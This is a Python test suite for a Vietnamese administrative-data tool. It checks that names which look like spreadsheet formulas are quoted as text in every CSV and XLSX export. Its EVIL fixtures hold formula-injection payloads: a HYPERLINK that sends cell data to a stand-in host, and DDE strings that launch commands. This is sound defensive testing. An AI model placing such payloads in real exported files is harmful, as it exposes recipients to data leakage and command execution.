"""No export writes a formula from data: names from imported files that look like formulas reach every CSV and XLSX
chiso writes (appendix, ranking, dossier and due lists, rejects, the web's CSV, generated files) as text with a
leading quote, never as a formula (issue 10, item 5; docs/decisions/0008-safe-exports-and-revocable-sessions.md)."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from chiso.cells import QUOTE, csv_value, needs_quote, put, safe_text, xlsx_value
from chiso.cli.app import app as cli_app
from chiso.workspace import Workspace
from tests.conftest import GIALAI_COMMUNES, REAL_FILES, TRACKERS
from tests.web_support import LOCAL_HEAD, LOCAL_PROCS, local_files, login, make_client, prepare

runner = CliRunner()

# What a hostile or careless file may carry as a name (OWASP's examples and the issue's).
EVIL = {
    "H21.227": '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
    "H21.228": "+cmd|' /C calc'!A0",
    "H21.125": "-2+3",
    "H21.203": "@SUM(1+1)*cmd|' /C calc'!A0",
    "H21.198": "\t=1+1",
    "H21.208": "\r=1+1",
}
FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r")


def _is_plain_number(text: str) -> bool:
    body = text.lstrip("+-").rstrip("%")
    return bool(body) and body[0].isdigit() and all(c.isdigit() or c in ".," for c in body)


def assert_csv_safe(text: str) -> list[list[str]]:
    """Every field of a CSV text: none starts like a formula (numbers excepted)."""
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    for row in rows:
        for field in row:
            assert not field.startswith(FORMULA_CHARS) or _is_plain_number(field), (field, row)
    return rows


def assert_xlsx_safe(path: Path) -> list[str]:
    """Every cell of a workbook: no formula, and no text that starts like one; returns the text cells."""
    texts = []
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (cell.coordinate, cell.data_type)
                    assert not cell.value.startswith(FORMULA_CHARS) or _is_plain_number(cell.value), cell.value
                    texts.append(cell.value)
    return texts


def quoted(name: str) -> str:
    return QUOTE + name


# -- the cell writer ----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("name", list(EVIL.values()))
def test_formula_like_text_gets_a_quote_in_both_formats(name):
    assert csv_value(name) == quoted(name)
    assert xlsx_value(name) == quoted(name)


@pytest.mark.parametrize("value", ["-5", "+84912345678", "-1.234,5", "12%", "0", "H21.227", "Sở Y tế", "(trống)"])
def test_plain_numbers_and_ordinary_text_stay_as_they_are(value):
    assert csv_value(value) == value and xlsx_value(value) == value


def test_numbers_stay_numbers():
    assert xlsx_value(Decimal("63.31")) == 63.31 and isinstance(xlsx_value(Decimal("-2")), int)
    assert xlsx_value(-2.5) == -2.5 and xlsx_value(True) is True and xlsx_value(None) is None
    assert csv_value(Decimal("-2.50")) == "-2.50" and csv_value(-3) == -3
    assert csv_value(float("nan")) == "" and xlsx_value(Decimal("NaN")) is None


TEXT = st.text(alphabet=st.characters(codec="utf-8") | st.sampled_from(list("=+-@\t\r'0123456789.,%")), max_size=40)


@given(TEXT)
@settings(max_examples=400, derandomize=True, database=None)
def test_safe_text_never_starts_like_a_formula_and_loses_nothing(text):
    out = safe_text(text)
    assert not needs_quote(out)
    assert out.removeprefix(QUOTE) == unicodedata.normalize("NFC", text) or out == unicodedata.normalize("NFC", text)
    field = csv_value(text)
    assert not field.startswith(FORMULA_CHARS) or _is_plain_number(field)


@given(st.lists(TEXT | st.sampled_from(["#N/A", "#DIV/0!", "=A1", "x\x00y", "\ud800"]), min_size=1, max_size=12))
@settings(max_examples=40, derandomize=True, database=None, deadline=None)
def test_any_text_saves_as_string_cells(tmp_path_factory, texts):
    path = tmp_path_factory.mktemp("x") / "t.xlsx"
    wb = Workbook()
    for i, text in enumerate(texts, start=1):
        put(wb.active, i, 1, text)
    wb.save(path)
    got = assert_xlsx_safe(path)
    assert len(got) == sum(1 for t in texts if xlsx_value(t))


# -- official results: ranking (CLI csv, xlsx) and the letter's appendix ------------------------------------------
@pytest.fixture(scope="module")
def evil_official(tmp_path_factory) -> Path:
    """The real published samples, Gia Lai's communes renamed as in EVIL, imported through the normal path."""
    folder = tmp_path_factory.mktemp("evil")
    data = json.loads(GIALAI_COMMUNES.read_text(encoding="utf-8"))
    for record in data["communesDetail"]:
        if record["departmentCode"] in EVIL:
            record["departmentName"] = EVIL[record["departmentCode"]]
    renamed = folder / "gialai-communes-2026-10-10.json"
    renamed.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    db = folder / "store.duckdb"
    ws = Workspace(db=db)
    files = [renamed if p == GIALAI_COMMUNES else p for p in REAL_FILES]
    outcomes = ws.import_official([*files, TRACKERS / "766analyze" / "provinces_2026-10-10.json"])
    ws.close()
    assert all(o.error is None for o in outcomes), [o.error for o in outcomes]
    return db


def _present(found: list[str]) -> None:
    """Every renamed commune reaches the export, quoted (the importer trims the tab and CR; what is left starts
    with '=')."""
    missing = [n for n in EVIL.values() if quoted(n.strip()) not in found]
    assert missing == [], found


def test_ranking_csv_and_xlsx_keep_names_as_text(evil_official, tmp_path):
    out_csv = tmp_path / "xep-hang.csv"
    result = runner.invoke(cli_app, ["--db", str(evil_official), "ranking", "--parent", "H21", "--kind", "commune",
                                     "--format", "csv", "--out", str(out_csv)])  # fmt: skip
    assert result.exit_code == 0, result.output
    rows = assert_csv_safe(out_csv.read_text(encoding="utf-8"))
    _present([f for r in rows for f in r])
    out_xlsx = tmp_path / "xep-hang.xlsx"
    result = runner.invoke(cli_app, ["--db", str(evil_official), "ranking", "--parent", "H21", "--format", "xlsx",
                                     "--out", str(out_xlsx)])  # fmt: skip
    assert result.exit_code == 0, result.output
    texts = assert_xlsx_safe(out_xlsx)
    _present(texts)
    # numbers stay numbers
    wb = load_workbook(out_xlsx)
    ws = wb.worksheets[-1]
    assert any(isinstance(c.value, float) for row in ws.iter_rows() for c in row)


def test_other_cli_csv_outputs_are_safe(evil_official):
    for args in (["units"], ["explain", "--unit", "H21.227"], ["verify"], ["history"]):
        result = runner.invoke(cli_app, ["--db", str(evil_official), *args, "--format", "csv"])
        assert result.exit_code in (0, 1), result.output
        assert_csv_safe(result.stdout)
    units = runner.invoke(cli_app, ["--db", str(evil_official), "units", "--format", "csv"]).stdout
    assert quoted(EVIL["H21.227"]) in [f for r in csv.reader(io.StringIO(units)) for f in r]


def test_letter_appendix_keeps_names_as_text(evil_official, tmp_path):
    out = tmp_path / "letter"
    result = runner.invoke(cli_app, ["--db", str(evil_official), "report", "--unit", "H21", "--period", "2026",
                                     "--out", str(out), "--no-pdf"])  # fmt: skip
    assert result.exit_code == 0, result.output
    texts = assert_xlsx_safe(out / "appendix.xlsx")
    _present(texts)


# -- local layer: rejects CSV, dossier lists (CLI and web), due lists ----------------------------------------------
@pytest.fixture(scope="module")
def evil_local(tmp_path_factory, real_db) -> tuple[Path, Path]:
    """The web test store plus a small local dataset whose unit and procedure names and one dossier code look like
    formulas, and whose dossier file has a formula where a date should be (a rejected value)."""
    folder = tmp_path_factory.mktemp("evil-local")
    db = prepare(real_db, folder / "web.duckdb")
    units, procs, dossiers = local_files(folder / "files")
    evil_name = '"' + EVIL["H21.227"].replace('"', '""') + '"'  # a CSV field (it holds commas and quotes)
    units.write_text(units.read_text(encoding="utf-8").replace("UBND xã Vân Canh", evil_name), encoding="utf-8")
    procs.write_text(LOCAL_PROCS.replace("Đăng ký khai sinh", "@SUM(1+1)*cmd"), encoding="utf-8")
    rows = dossiers.read_text(encoding="utf-8").replace("CV-2,", "+CV-2,").splitlines()  # an overdue dossier
    bad = rows[1].split(",")
    bad[0], bad[4] = "VC-9", "=1+2"  # received: a formula instead of a date
    dossiers.write_text("\n".join([*rows, ",".join(bad)]) + "\n", encoding="utf-8")
    assert rows[0] + "\n" == LOCAL_HEAD
    ws = Workspace(db=db)
    reports = ws.ingest([units, procs, dossiers], rejects_dir=folder / "rejects")
    ws.close()
    assert [r.rows_rejected for r in reports] == [0, 0, 1]
    return db, folder


def test_rejects_csv_writes_the_refused_formula_as_text(evil_local):
    _, folder = evil_local
    files = list((folder / "rejects").glob("*.rejects.csv"))
    assert files
    rows = assert_csv_safe(files[0].read_text(encoding="utf-8-sig"))
    assert quoted("=1+2") in [f for r in rows for f in r]


def test_dossier_and_due_lists_keep_names_as_text(evil_local, tmp_path):
    db, _ = evil_local
    out = tmp_path / "ho-so.csv"
    result = runner.invoke(cli_app, ["--db", str(db), "explain", "--unit", "H21.227", "--source", "local",
                                     "--dossiers", "--metric", "ON_TIME", "--all", "--out", str(out)])  # fmt: skip
    assert result.exit_code == 0, result.output
    rows = assert_csv_safe(out.read_text(encoding="utf-8-sig"))
    assert quoted("@SUM(1+1)*cmd") in [f for r in rows for f in r]
    due = runner.invoke(cli_app, ["--db", str(db), "due", "--unit", "H21", "--format", "csv"])
    assert due.exit_code == 0, due.output
    rows = assert_csv_safe(due.stdout)
    assert quoted("+CV-2") in [f for r in rows for f in r]


def test_web_dossier_csv_keeps_names_as_text(evil_local, tmp_path):
    db, _ = evil_local
    client = login(make_client(db, tmp_path / "data"), "vanphong")
    response = client.get("/api/v1/units/H21.227/dossiers.csv", params={"gap_only": "false"})
    assert response.status_code == 200, response.text
    rows = assert_csv_safe(response.content.decode("utf-8-sig"))
    assert quoted("@SUM(1+1)*cmd") in [f for r in rows for f in r]
    client.app.state.web.close()  # type: ignore[attr-defined]


# -- generated files -------------------------------------------------------------------------------------------
def test_generated_workbook_has_no_formula(tmp_path):
    result = runner.invoke(cli_app, ["generate", "--out", str(tmp_path / "gen"), "--dossiers", "300", "--format",
                                     "xlsx", "--seed", "7"])  # fmt: skip
    assert result.exit_code == 0, result.output
    books = list((tmp_path / "gen").glob("*.xlsx"))
    assert books
    for book in books:
        assert assert_xlsx_safe(book)
    for sheet in (tmp_path / "gen").glob("*.csv"):
        assert_csv_safe(sheet.read_text(encoding="utf-8-sig"))
